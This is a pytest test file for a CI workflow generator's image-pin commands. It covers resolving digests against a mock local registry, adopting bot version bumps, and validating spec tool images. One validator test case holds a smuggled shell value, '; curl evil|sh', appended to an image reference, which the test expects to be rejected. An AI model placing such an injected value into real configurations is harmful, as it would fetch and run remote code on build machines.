"""gen-ci pins: resolve against a real local registry, image pins adopted from bot bumps, and a
spec's own tool images."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from generator import pins
from generator.commands.pins import DOCKER_HUB, ResolveError, parse_reference
from tests.conftest import MINIMAL, invoke

INDEX = "application/vnd.oci.image.index.v1+json"
MANIFEST = "application/vnd.oci.image.manifest.v1+json"


def _bytes(document: dict) -> bytes:
    return json.dumps(document, indent=3).encode()  # a registry serves the bytes it was given, not canonical JSON


def _sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


CONFIG = b'{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]}}'
IMAGE_MANIFEST = _bytes({
    "schemaVersion": 2, "mediaType": MANIFEST,
    "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": _sha(CONFIG), "size": len(CONFIG)},
    "layers": [],
})
IMAGE_INDEX = _bytes({
    "schemaVersion": 2, "mediaType": INDEX,
    "manifests": [{"mediaType": MANIFEST, "digest": _sha(IMAGE_MANIFEST), "size": len(IMAGE_MANIFEST), "platform": {"architecture": "amd64", "os": "linux"}}],
})


class Registry:
    """The distribution API endpoints `pins resolve` needs, on 127.0.0.1: manifests by tag and
    digest, and a token service behind the Bearer challenge (anonymous, or with a user)."""

    def __init__(self, users: dict[str, str] | None = None, head_digest: bool = True, wrong_digest: bool = False, anonymous: bool = True, basic: bool = False):
        self.users, self.head_digest, self.wrong_digest, self.anonymous = users or {}, head_digest, wrong_digest, anonymous
        self.basic = basic  # htpasswd-style: Basic credentials on every request, no token service
        self.tags = {"acme/tool": {"1.0": (INDEX, IMAGE_INDEX), "single": (MANIFEST, IMAGE_MANIFEST)}}
        self.tokens: set[str] = set()
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        registry = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_HEAD(self):
                registry.serve(self, body=False)

            def do_GET(self):
                registry.serve(self, body=True)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()

    def _send(self, handler, status, headers=None, body=b"", send_body=True):
        handler.send_response(status)
        for key, value in (headers or {}).items():
            handler.send_header(key, value)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        if send_body:
            handler.wfile.write(body)

    def serve(self, handler, body: bool):
        url = urlsplit(handler.path)
        self.requests.append((handler.command, url.path, dict(handler.headers)))
        if url.path == "/token":
            return self._token(handler, parse_qs(url.query))
        match = re.fullmatch(r"/v2/(?P<name>.+)/manifests/(?P<reference>[^/]+)", url.path)
        if match is None:
            return self._send(handler, 404, {"Content-Type": "application/json"}, b'{"errors":[{"code":"NOT_FOUND"}]}', body)
        authorization = handler.headers.get("Authorization", "")
        if self.basic:
            user, _, password = base64.b64decode(authorization.removeprefix("Basic ") or "Og==").decode().partition(":")
            if not authorization.startswith("Basic ") or self.users.get(user) != password:
                return self._send(handler, 401, {"WWW-Authenticate": 'Basic realm="test-registry"'}, b"", body)
        elif authorization.removeprefix("Bearer ") not in self.tokens:
            challenge = f'Bearer realm="http://{self.host}/token",service="test-registry",scope="repository:{match["name"]}:pull"'
            return self._send(handler, 401, {"WWW-Authenticate": challenge, "Content-Type": "application/json"}, b'{"errors":[{"code":"UNAUTHORIZED"}]}', body)
        found = self.tags.get(match["name"], {}).get(match["reference"])
        if found is None:
            return self._send(handler, 404, {"Content-Type": "application/json"}, b'{"errors":[{"code":"MANIFEST_UNKNOWN"}]}', body)
        media_type, data = found
        headers = {"Content-Type": media_type}
        if body or self.head_digest:
            headers["Docker-Content-Digest"] = _sha(data + b" ") if self.wrong_digest else _sha(data)
        self._send(handler, 200, headers, data, body)

    def _token(self, handler, query):
        authorization = handler.headers.get("Authorization", "")
        if authorization.startswith("Basic "):
            user, _, password = base64.b64decode(authorization[6:]).decode().partition(":")
            if self.users.get(user) != password:
                return self._send(handler, 401, {"Content-Type": "application/json"}, b'{"details":"incorrect username or password"}')
        elif not self.anonymous:
            return self._send(handler, 401, {"Content-Type": "application/json"}, b'{"details":"authentication required"}')
        assert query.get("service") == ["test-registry"] and query.get("scope") == ["repository:acme/tool:pull"]
        token = hashlib.sha256(repr(len(self.tokens)).encode()).hexdigest()
        self.tokens.add(token)
        self._send(handler, 200, {"Content-Type": "application/json"}, json.dumps({"token": token}).encode())


@pytest.fixture(autouse=True)
def no_docker_config(tmp_path, monkeypatch):
    folder = tmp_path / "docker-config"
    folder.mkdir()
    monkeypatch.setenv("DOCKER_CONFIG", str(folder))
    return folder


# 1. gen-ci pins resolve


def test_resolve_prints_the_index_digest_through_the_token_challenge():
    with Registry() as registry:
        result = invoke("pins", "resolve", f"{registry.host}/acme/tool:1.0")
        assert result.exit_code == 0, result.stderr
        assert result.stdout == f"{registry.host}/acme/tool:1.0@{_sha(IMAGE_INDEX)}\n"
        heads = [headers for method, path, headers in registry.requests if method == "HEAD" and path.endswith("/manifests/1.0")]
        assert len(heads) == 2 and "Authorization" not in heads[0] and heads[1]["Authorization"].startswith("Bearer ")
        accepted = heads[1]["Accept"]
        for kind in (INDEX, MANIFEST, "application/vnd.docker.distribution.manifest.list.v2+json", "application/vnd.docker.distribution.manifest.v2+json"):
            assert kind in accepted


def test_resolve_without_a_head_digest_fetches_and_hashes_the_manifest():
    with Registry(head_digest=False) as registry:
        result = invoke("pins", "resolve", f"{registry.host}/acme/tool:single", f"{registry.host}/acme/tool:1.0")
        assert result.exit_code == 0, result.stderr
        assert result.stdout.splitlines() == [f"{registry.host}/acme/tool:single@{_sha(IMAGE_MANIFEST)}", f"{registry.host}/acme/tool:1.0@{_sha(IMAGE_INDEX)}"]
        assert any(method == "GET" and "/manifests/" in path for method, path, _ in registry.requests)


def test_resolve_refuses_a_manifest_whose_bytes_are_not_its_digest():
    with Registry(head_digest=False, wrong_digest=True) as registry:
        result = invoke("pins", "resolve", f"{registry.host}/acme/tool:1.0")
    assert result.exit_code == 2 and result.stdout == ""
    assert f"but its bytes are {_sha(IMAGE_INDEX)}; refusing it" in result.stderr
    assert "Traceback" not in result.stderr


def test_resolve_logs_in_with_the_docker_config(no_docker_config):
    with Registry(users={"robot": "s3cret"}, anonymous=False) as registry:
        refused = invoke("pins", "resolve", f"{registry.host}/acme/tool:1.0")
        assert refused.exit_code == 2 and "refused an anonymous pull" in refused.stderr

        auth = base64.b64encode(b"robot:wrong").decode()
        (no_docker_config / "config.json").write_text(json.dumps({"auths": {registry.host: {"auth": auth}}}))
        wrong = invoke("pins", "resolve", f"{registry.host}/acme/tool:1.0")
        assert wrong.exit_code == 2 and "refused the credentials from the Docker config" in wrong.stderr

        auth = base64.b64encode(b"robot:s3cret").decode()
        (no_docker_config / "config.json").write_text(json.dumps({"auths": {f"http://{registry.host}": {"auth": auth}}}))
        result = invoke("pins", "resolve", f"{registry.host}/acme/tool:1.0")
        assert result.exit_code == 0, result.stderr
        assert result.stdout == f"{registry.host}/acme/tool:1.0@{_sha(IMAGE_INDEX)}\n"
        tokens = [headers for method, path, headers in registry.requests if path == "/token"]
        assert tokens[-1]["Authorization"] == "Basic " + auth
        manifests = [headers for method, path, headers in registry.requests if "/manifests/" in path]
        assert not any(headers.get("Authorization", "").startswith("Basic") for headers in manifests)  # the password goes to the token service only


def test_resolve_with_basic_auth(no_docker_config):
    with Registry(users={"robot": "s3cret"}, basic=True) as registry:
        refused = invoke("pins", "resolve", f"{registry.host}/acme/tool:1.0")
        assert refused.exit_code == 2 and "refused an anonymous pull (HTTP 401)" in refused.stderr
        (no_docker_config / "config.json").write_text(json.dumps({"auths": {registry.host: {"username": "robot", "password": "s3cret"}}}))
        result = invoke("pins", "resolve", f"{registry.host}/acme/tool:1.0")
        assert result.exit_code == 0 and result.stdout == f"{registry.host}/acme/tool:1.0@{_sha(IMAGE_INDEX)}\n", result.stderr


def test_a_challenge_is_read_parameter_by_parameter():
    from generator.commands.pins import _challenge

    header = 'Bearer realm="https://auth.example/token?service=evil",service="registry.example",scope="repository:a/b:pull"'
    assert _challenge(header) == ("bearer", {"realm": "https://auth.example/token?service=evil", "service": "registry.example", "scope": "repository:a/b:pull"})


def test_resolve_names_an_unknown_tag_and_an_unreachable_registry():
    with Registry() as registry:
        result = invoke("pins", "resolve", f"{registry.host}/acme/tool:9.9")
        assert result.exit_code == 2 and "Traceback" not in result.stderr
        assert result.stderr.startswith(f"gen-ci: {registry.host}/acme/tool:9.9: the registry has no such tag")
        host = registry.host
    gone = invoke("pins", "resolve", f"{host}/acme/tool:1.0")  # the server is shut down
    assert gone.exit_code == 2 and "cannot reach" in gone.stderr and "Traceback" not in gone.stderr
    bad = invoke("pins", "resolve", "aquasec/trivy")
    assert bad.exit_code == 2 and "not IMAGE:TAG" in bad.stderr


@pytest.mark.parametrize(("written", "host", "repository", "tag"), [
    ("trivy:0.74.0", DOCKER_HUB, "library/trivy", "0.74.0"),
    ("docker.io/python:3.13-slim", DOCKER_HUB, "library/python", "3.13-slim"),
    ("aquasec/trivy:0.74.0", DOCKER_HUB, "aquasec/trivy", "0.74.0"),
    ("index.docker.io/aquasec/trivy:0.74.0", DOCKER_HUB, "aquasec/trivy", "0.74.0"),
    ("ghcr.io/sigstore/cosign/cosign:v3.1.1", "ghcr.io", "sigstore/cosign/cosign", "v3.1.1"),
    ("localhost:5000/tool:1", "localhost:5000", "tool", "1"),
    ("mirror.example:8443/hub/aquasec/trivy:0.75.0", "mirror.example:8443", "hub/aquasec/trivy", "0.75.0"),
])
def test_docker_hub_names_are_normalised(written, host, repository, tag):
    reference = parse_reference(written)
    assert (reference.host, reference.repository, reference.tag) == (host, repository, tag)


@pytest.mark.parametrize("written", ["aquasec/trivy", "Aquasec/trivy:1", f"trivy:1@sha256:{'a' * 64}", "ghcr.io/x/y:bad tag"])
def test_a_reference_that_is_not_image_and_tag_is_refused(written):
    with pytest.raises(ResolveError):
        parse_reference(written)


def test_https_unless_local_or_asked():
    from generator.commands.pins import Client

    assert Client(parse_reference("ghcr.io/a/b:1")).scheme == "https"
    assert Client(parse_reference("ghcr.io/a/b:1"), plain_http=True).scheme == "http"
    assert Client(parse_reference("127.0.0.1:5000/a/b:1")).scheme == "http"
    assert Client(parse_reference("localhost:5000/a/b:1")).scheme == "http"


# 2. Tool image pins adopted from a bot's bump

OUTPUT = ".github/workflows/ci.yml"
TRIVY = pins.image("trivy")  # aquasec/trivy:<tag>@sha256:<digest>, gen-ci's own pin
NEW_DIGEST = _sha(b"a newer trivy index")
BUMPED = f"aquasec/trivy:0.99.0@{NEW_DIGEST}"


def _overrides(repo: Path) -> dict:
    return json.loads((repo / ".gen-ci" / "pins.json").read_text())


def test_a_bot_image_bump_is_recognised_adopted_and_kept(repo):
    assert invoke("sync").exit_code == 0
    output = repo / OUTPUT
    text = output.read_text()
    runs = text.count(TRIVY)
    assert runs >= 1
    output.write_text(text.replace(TRIVY, BUMPED))  # what Renovate's docker manager does to every occurrence

    result = invoke("check")
    assert result.exit_code == 1
    assert f"pin bump (a bot or a person updated aquasec/trivy {pins.image_tag('trivy')} -> 0.99.0" in result.stderr
    assert "gen-ci pins adopt" in result.stderr

    adopted = invoke("pins", "adopt")
    assert adopted.exit_code == 0, adopted.stderr
    assert f"adopted the trivy image {BUMPED} into .gen-ci/pins.json" in adopted.stderr
    trivy = _overrides(repo)["images"]["trivy"]
    assert (trivy["image"], trivy["tag"], trivy["digest"]) == ("aquasec/trivy", "0.99.0", NEW_DIGEST)

    assert invoke("sync").exit_code == 0
    synced = output.read_text()
    assert synced.count(BUMPED) == runs and TRIVY not in synced  # the bump survives a sync
    assert invoke("check").exit_code == 0
    # Rendering to standard output uses the override too: one answer for every command.
    assert BUMPED in invoke("gen-ci.yml").stdout


def test_an_engine_digest_bump_is_adopted_and_a_version_bump_is_not(repo):
    (repo / "gen-ci.yml").write_text(MINIMAL + "docker: {mode: dind}\n")
    invoke("sync")
    output = repo / OUTPUT
    dind = pins.image("docker-dind")
    text = output.read_text()
    assert dind in text

    other_version = dind.replace(pins.image_tag("docker-dind"), "29.9.0-dind").rsplit("@", 1)[0] + f"@{NEW_DIGEST}"
    output.write_text(text.replace(dind, other_version))
    refused = invoke("pins", "adopt")
    assert refused.exit_code == 1 and "not adopted" in refused.stderr and "docker.version" in refused.stderr
    assert not (repo / ".gen-ci" / "pins.json").exists()

    same_tag = dind.rsplit("@", 1)[0] + f"@{NEW_DIGEST}"
    output.write_text(text.replace(dind, same_tag))
    adopted = invoke("pins", "adopt")
    assert adopted.exit_code == 0, adopted.stderr
    assert _overrides(repo)["images"]["docker-dind"]["digest"] == NEW_DIGEST
    invoke("sync")
    assert same_tag in output.read_text() and invoke("check").exit_code == 0


def test_adopt_keeps_action_and_image_overrides_together(repo):
    invoke("sync")
    output = repo / OUTPUT
    text = output.read_text().replace(TRIVY, BUMPED)
    old = next(line for line in text.splitlines() if "actions/checkout@" in line)
    sha = "0123456789abcdef0123456789abcdef01234567"
    output.write_text(text.replace(old, f"{old.split('@')[0]}@{sha} # v7.9.9"))
    assert invoke("pins", "adopt").exit_code == 0
    overrides = _overrides(repo)
    assert overrides["actions"]["actions/checkout"] == {"version": "v7.9.9", "sha": sha}
    assert overrides["images"]["trivy"]["digest"] == NEW_DIGEST
    invoke("sync")
    assert invoke("check").exit_code == 0


def _gc116(repo: Path, images: dict) -> list[str]:
    (repo / ".gen-ci").mkdir(exist_ok=True)
    (repo / ".gen-ci" / "pins.json").write_text(json.dumps({"images": images}, indent=2) + "\n")
    result = invoke("check")
    assert result.exit_code == 2 and "Traceback" not in result.stderr
    return [line for line in result.stderr.splitlines() if "error[" in line]


@pytest.mark.parametrize(("images", "where", "words"), [
    ({"trivvy": {"image": "aquasec/trivy", "tag": "0.99.0", "digest": NEW_DIGEST}}, ":3:5: error[GC116]: $.images.trivvy:", "did you mean 'trivy'"),
    ({"trivy": {"image": "mirror.example/aquasec/trivy", "tag": "0.99.0", "digest": NEW_DIGEST}}, ":4:16: error[GC116]: $.images.trivy.image:", "tool_images"),
    ({"trivy": {"image": "aquasec/trivy", "tag": "0.99.0", "digest": "sha256:abc"}}, ":6:17: error[GC116]: $.images.trivy.digest:", "sha256"),
    ({"trivy": {"image": "aquasec/trivy", "digest": NEW_DIGEST}}, ":3:14: error[GC116]: $.images.trivy:", "tag"),
    ({"docker-cli": {"image": "docker", "tag": "29.9.0-cli", "digest": NEW_DIGEST}}, ":5:14: error[GC116]: $.images.docker-cli.tag:", "docker.version"),
])
def test_a_bad_image_override_is_a_located_gc116(repo, images, where, words):
    rows = _gc116(repo, images)
    assert len(rows) == 1 and rows[0].startswith(str(repo / ".gen-ci" / "pins.json") + ":"), rows
    assert where in rows[0] and words in rows[0], rows


# 3. A spec's own tool images

MIRROR = f"registry.example.com/mirror/aquasec/trivy:0.75.0@{_sha(b'mirrored trivy')}"
REGISTRY = f"registry.example.com/mirror/registry:3.2.0@{_sha(b'mirrored registry')}"
BUILDKIT = f"registry.example.com:5000/moby/buildkit:v0.33.0@{_sha(b'mirrored buildkit')}"


def test_spec_tool_images_reach_the_model_and_the_templates(cli, write_spec):
    spec = write_spec(MINIMAL + f"tool_images:\n  trivy: {MIRROR}\n  registry: {REGISTRY}\n  buildkit: {BUILDKIT}\n")
    result = cli(str(spec))
    assert result.exit_code == 0, result.stderr
    text = result.stdout
    for reference in (MIRROR, REGISTRY, BUILDKIT):  # scanner and builder from the model, registry from pinned_image
        assert reference in text, reference
    for name in ("trivy", "registry", "buildkit"):
        assert pins.image(name) not in text, name
    # Without the key, the output is gen-ci's pins again: nothing is left behind between renders.
    assert pins.image("trivy") in cli(str(write_spec(MINIMAL, "plain.yml"))).stdout


def test_spec_tool_images_win_over_overrides_which_win_over_pins_json(repo):
    (repo / ".gen-ci").mkdir()
    (repo / ".gen-ci" / "pins.json").write_text(json.dumps({"images": {
        "trivy": {"image": "aquasec/trivy", "tag": "0.99.0", "digest": NEW_DIGEST},
        "registry": {"image": "registry", "tag": "3.2.0", "digest": NEW_DIGEST},
    }}))
    (repo / "gen-ci.yml").write_text(MINIMAL + f"tool_images: {{trivy: '{MIRROR}'}}\n")
    text = invoke("gen-ci.yml").stdout
    assert MIRROR in text and BUMPED not in text and TRIVY not in text  # the spec first
    assert f"registry:3.2.0@{NEW_DIGEST}" in text  # then the override
    assert pins.image("buildkit") in text  # then gen-ci's pins.json

    with pins.images_in_use({"trivy": MIRROR}, {"trivy": {"image": "aquasec/trivy", "tag": "0.99.0", "digest": NEW_DIGEST}}):
        assert pins.image("trivy") == MIRROR
    assert pins.image("trivy") == TRIVY


def test_a_bump_of_a_spec_tool_image_is_not_adopted(repo):
    (repo / "gen-ci.yml").write_text(MINIMAL + f"tool_images: {{trivy: '{MIRROR}'}}\n")
    invoke("sync")
    output = repo / OUTPUT
    newer = MIRROR.replace("0.75.0", "0.76.0").rsplit("@", 1)[0] + f"@{NEW_DIGEST}"
    output.write_text(output.read_text().replace(MIRROR, newer))
    result = invoke("pins", "adopt")
    assert result.exit_code == 1 and "tool_images.trivy pins it; change it there" in result.stderr
    assert not (repo / ".gen-ci" / "pins.json").exists()


@pytest.mark.parametrize(("tool_images", "code", "where", "words"), [
    ("{trivvy: 'aquasec/trivy:0.75.0@sha256:%s'}" % ("a" * 64), "GC178", "$.tool_images.trivvy", "did you mean 'trivy'"),
    ("{trivy: 'registry.example.com/aquasec/trivy:0.75.0'}", "GC178", "$.tool_images.trivy", "gen-ci pins resolve registry.example.com/aquasec/trivy:0.75.0"),
    ("{trivy: 'registry.example.com/aquasec/trivy@sha256:%s'}" % ("a" * 64), "GC178", "$.tool_images.trivy", "no tag"),
    ("{trivy: 'aquasec/trivy:0.75.0@sha256:%s'}" % ("A" * 64), "GC178", "$.tool_images.trivy", "64 lower-case hex"),
    ("{trivy: 'aquasec/trivy:0.75.0@sha256:%s; curl evil|sh'}" % ("a" * 64), "GC178", "$.tool_images.trivy", "not host/path:tag"),
    ("{trivy: '[::1]:5000/aquasec/trivy:0.75.0@sha256:%s'}" % ("a" * 64), "GC178", "$.tool_images.trivy", "not host/path:tag"),
    ("{docker-cli: 'docker:29.9.0-cli@sha256:%s'}" % ("a" * 64), "GC179", "$.tool_images.docker-cli", "docker.version with docker.dind_digest and docker.cli_digest"),
])
def test_bad_tool_images_are_located_errors(cli, write_spec, tool_images, code, where, words):
    result = cli(str(write_spec(MINIMAL + "scan: {tool: trivy}\n" + f"tool_images: {tool_images}\n")))
    rows = [line for line in result.stderr.splitlines() if "error[" in line]
    assert result.exit_code == 2 and len(rows) == 1, result.stderr
    assert ":7:" in rows[0] and f"error[{code}]: {where}:" in rows[0] and words in rows[0], rows


def test_a_tool_pinned_twice_is_refused(cli, write_spec):
    digest = "sha256:" + "b" * 64
    spec = MINIMAL.replace("  - repository: ghcr.io/acme/app\n", f"  - repository: ghcr.io/acme/app\n    dockerfile_check: {{tool: hadolint, digest: '{digest}'}}\n")
    result = cli(str(write_spec(spec + f"tool_images: {{hadolint: 'hadolint/hadolint:v2.16.0@{digest}'}}\n")))
    assert result.exit_code == 2 and "error[GC169]: $.tool_images.hadolint:" in result.stderr
    assert "images[0].dockerfile_check.digest" in result.stderr


def test_two_different_bumps_of_one_tool_are_not_adopted(repo):
    # Two images, so two jobs run the scanner and a bot can bump its two mentions apart.
    (repo / "gen-ci.yml").write_text(MINIMAL + "  - repository: ghcr.io/acme/worker\n")
    invoke("sync")
    output = repo / OUTPUT
    text = output.read_text()
    first, rest = text.split(TRIVY, 1)
    other = f"aquasec/trivy:0.98.0@{_sha(b'another trivy')}"
    output.write_text(first + other + rest.replace(TRIVY, BUMPED))
    result = invoke("pins", "adopt")
    assert result.exit_code == 1 and "trivy was bumped to 2 different pins" in result.stderr
    assert result.stderr.count("not adopted") == 1
    assert not (repo / ".gen-ci" / "pins.json").exists()


# The real distribution registry (Debian's docker-registry, which .ci/run installs), anonymous:
# the in-process registry above covers its token and Basic challenges.

def _distribution_registry(tmp_path):
    import shutil
    import socket
    import time
    import urllib.request

    binary = shutil.which("docker-registry")
    if binary is None:
        pytest.skip("Debian's docker-registry is not installed (apt-get install docker-registry, as .ci/run does)")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    config = tmp_path / "registry.yml"
    config.write_text(f"version: 0.1\nstorage:\n  filesystem:\n    rootdirectory: {tmp_path / 'data'}\nhttp:\n  addr: 127.0.0.1:{port}\nlog:\n  level: error\n")
    process = subprocess.Popen([binary, "serve", str(config)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(100):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/v2/", timeout=1).close()
            return process, f"127.0.0.1:{port}"
        except OSError:
            time.sleep(0.1)
    process.kill()
    pytest.fail("docker-registry did not start")


def _push(host: str, name: str, reference: str, media_type: str, data: bytes) -> None:
    import urllib.request

    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    url = f"http://{host}/v2/{name}/manifests/{reference}"
    opener.open(urllib.request.Request(url, data=data, method="PUT", headers={"Content-Type": media_type})).close()


def _push_blob(host: str, name: str, data: bytes) -> None:
    import urllib.request

    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(urllib.request.Request(f"http://{host}/v2/{name}/blobs/uploads/", data=b"", method="POST")) as started:
        location = started.headers["Location"]
    location = location if location.startswith("http") else f"http://{host}{location}"
    separator = "&" if "?" in location else "?"
    opener.open(urllib.request.Request(f"{location}{separator}digest={_sha(data)}", data=data, method="PUT",
                                       headers={"Content-Type": "application/octet-stream"})).close()


def test_resolve_against_the_distribution_registry(tmp_path):
    process, host = _distribution_registry(tmp_path)
    try:
        _push_blob(host, "acme/tool", CONFIG)
        _push(host, "acme/tool", "single", MANIFEST, IMAGE_MANIFEST)
        _push(host, "acme/tool", "1.0", INDEX, IMAGE_INDEX)
        result = invoke("pins", "resolve", f"{host}/acme/tool:1.0", f"{host}/acme/tool:single")
        assert result.exit_code == 0, result.stderr
        assert result.stdout.splitlines() == [f"{host}/acme/tool:1.0@{_sha(IMAGE_INDEX)}", f"{host}/acme/tool:single@{_sha(IMAGE_MANIFEST)}"]
        missing = invoke("pins", "resolve", f"{host}/acme/tool:2.0")
        assert missing.exit_code == 2 and "no such tag" in missing.stderr
    finally:
        process.terminate()
        process.wait(timeout=10)
